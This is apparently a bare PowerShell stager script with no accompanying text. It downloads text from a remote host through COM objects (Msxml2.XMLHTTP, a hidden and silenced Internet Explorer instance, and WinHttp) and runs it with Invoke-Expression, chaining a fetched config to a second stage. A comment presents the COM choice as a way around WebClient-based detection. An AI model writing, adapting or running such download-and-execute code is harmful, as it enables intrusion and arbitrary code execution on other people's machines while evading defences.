function Get-StageViaCom {
    param(
        [string]$Url = 'https://198.51.100.50/news.txt'
    )

    # Msxml2 COM object: proxy-aware and not a .NET WebClient
    $http = New-Object -ComObject Msxml2.XMLHTTP
    $http.open('GET', $Url, $false)
    $http.send()
    Invoke-Expression $http.responseText
}

function Get-StageViaIe {
    param([string]$Url)

    $ie = New-Object -ComObject InternetExplorer.Application
    $ie.Visible = $false
    $ie.Silent = $true
    $ie.Navigate($Url)
    while ($ie.Busy) { Start-Sleep -Milliseconds 200 }
    $text = $ie.Document.body.innerText
    $ie.Quit()
    iex $text
}

# WinHttp flavour, result kept for later
$wh = New-Object -ComObject WinHttp.WinHttpRequest.5.1
$wh.Open('GET', 'https://198.51.100.50/cfg.json', $false)
$wh.Send()
$config = $wh.ResponseText | ConvertFrom-Json

Get-StageViaCom
Get-StageViaIe -Url $config.next
